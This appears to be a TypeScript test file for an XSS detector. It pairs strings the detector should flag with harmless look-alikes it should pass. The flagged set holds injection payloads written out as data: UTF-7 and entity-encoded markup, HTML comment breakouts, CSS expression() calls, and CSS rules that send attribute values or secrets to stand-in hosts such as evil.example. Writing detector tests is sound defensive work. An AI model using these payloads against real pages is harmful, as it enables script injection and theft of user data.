import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inspectValue, DEFAULT_DETECTOR_OPTIONS } from '../../../src/threat/detectors/index.js';
import { xssClean, xssFlags } from './detector-cases.js';

const xss = (v: string, opts = DEFAULT_DETECTOR_OPTIONS) => inspectValue(v, opts).find((f) => f.family === 'xss');
const allow = { ...DEFAULT_DETECTOR_OPTIONS, markup: 'allow' as const };


xssFlags('markup and breakouts that arrive encoded', [
  '+ADw-b+AD4-x+ADw-/b+AD4-', '+ADw-em+AD4-hi', 'x&#34;&#41;&#62;', 'x&amp;quot;&amp;gt;', '"&#47;&#62;',
  '&amp;#34;&amp;#62;trailing text',
]);
xssClean('encoded text that breaks nothing', [
  'Tom&#39;s &gt; Jerry', '5 &gt; 3 and \'a\'', 'Don&amp;#39;t do it', '&lt;b&gt;bold&lt;/b&gt;', 'Company ADwords <b>x</b>',
  'He said "hi" > she said', 'He said "hi" &gt; she said',
]);

xssFlags('HTML comment breakouts and conditional comments', [
  '--!><p>x', '--><i>', '-->{background:red}', '--> <!-- x', 'name<!--', '<![if !IE]>x<![endif]>', '<![endif]>',
]);
xssClean('arrows and complete comments', [
  'a --> b', '-->', 'step 1 -->step 2', 'File --> <kbd>Save</kbd>', 'look at this ;-) --> nice', '<!-- a note -->', '<!-->', 'x <!--> y',
]);

xssFlags('CSS rules that fetch, run script or hide words in comments', [
  'a{background:url(//evil.example/?q=secret)}', 'input[value^=a]{background:url(https://e.example/a)}',
  '@import url(//evil.example/x.css);', 'body{color:r/**/ed !/**/important}', 'x{width:expr/**/ession(alert(1))}',
  'li:nth-child(2) {background-image: url(x)}', '@font-face{font-family:f;src:url(//e.example/f.woff)}',
  'a{background:url(data:image/svg+xml;base64,AAAA)}', 'b{x:expression(alert(1))}',
]);
xssClean('braces that are not CSS rules', [
  'if (x) { a: 1 }', "const style = {background: 'url(x)'}", '{"a":{"b":"url(x)"}}', 'Hello {{first_name}}, see {url: x}',
  '{color: red}', 'a { color: red }', 'div {color: red; /* note */ }', 'Price {price} USD: url(x)', '@import is a sass directive',
  'if (ok) {return url(x)}', 'else {note: see url(x)}',
  // GraphQL selections with aliased fields that take arguments
  '{ image { small: url(size: 2) } }', 'query { p(id: 1) { title thumb: url(transform: {maxWidth: 100}) } }',
  '{ product { img: url(transform:{maxWidth:100}) } }',
]);

xssFlags('XML namespace and DTD fragments', [
  'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"', 'xmlns="http://www.w3.org/1999/xhtml">', 'name CDATA #IMPLIED>', '(#PCDATA)>]>',
  'x xmlns:m = "http://www.w3.org/1998/Math/MathML"',
]);
xssClean('namespace and hashtag prose', [
  'xmlns is a prefix', 'the namespace is http://www.w3.org/2000/svg', '#required fields > optional ones', 'tags: #required, #optional',
  'xmlns:foo="urn:example:foo"',
]);

xssFlags('script statements without a sink', [
  "$('#login').submit()", "jQuery('body').append('x')", '$(document).ready(go)', 'for(var k=0;k<10;k++){', 'for (let j = 5; j > 0; j--)',
  'for (;;) {}', 'for (n=0;n<3;n  ) {',
]);
xssClean('prices, lists and prose with for (…)', [
  'for (a; b; c)', 'Thanks for (1) fast shipping; (2) low price; (3) support', 'We paid $(12.50) for it.', 'US$(5).00',
  'look for (this); and that', '$(x) is the notation; see docs',
]);

describe('markup allowance', () => {
  it('an unclosed comment opener is markup: allowed on rich-text routes', () => {
    assert.ok((xss('text <!-- rest') ?.confidence ?? 0) >= 0.8);
    assert.ok((xss('text <!-- rest', allow)?.confidence ?? 0) < 0.5);
  });
  it('a comment breakout and UTF-7 markup stay findings on rich-text routes', () => {
    assert.ok((xss('--><i>x', allow)?.confidence ?? 0) >= 0.8);
    assert.ok((xss('+ADw-b+AD4-x', allow)?.confidence ?? 0) >= 0.8);
  });
});

describe('a function defined with its body', () => {
  const xs = (v: string) => Math.max(0, ...inspectValue(v, DEFAULT_DETECTOR_OPTIONS).filter((f) => f.family === 'xss').map((f) => f.confidence));
  for (const a of ['function boom(){', 'function (a, b) {', 'function f(a = 1, ...rest) {', 'async function run() {', 'x=function*gen(){'])
    it(`flags ${JSON.stringify(a)}`, () => assert.ok(xs(a) >= 0.8, a));
  for (const b of ['the function (see below) { braces }', 'dysfunction() {', 'What is a function (in maths)?', 'function keys {F1-F12}'])
    it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(xs(b) < 0.8, b));
});
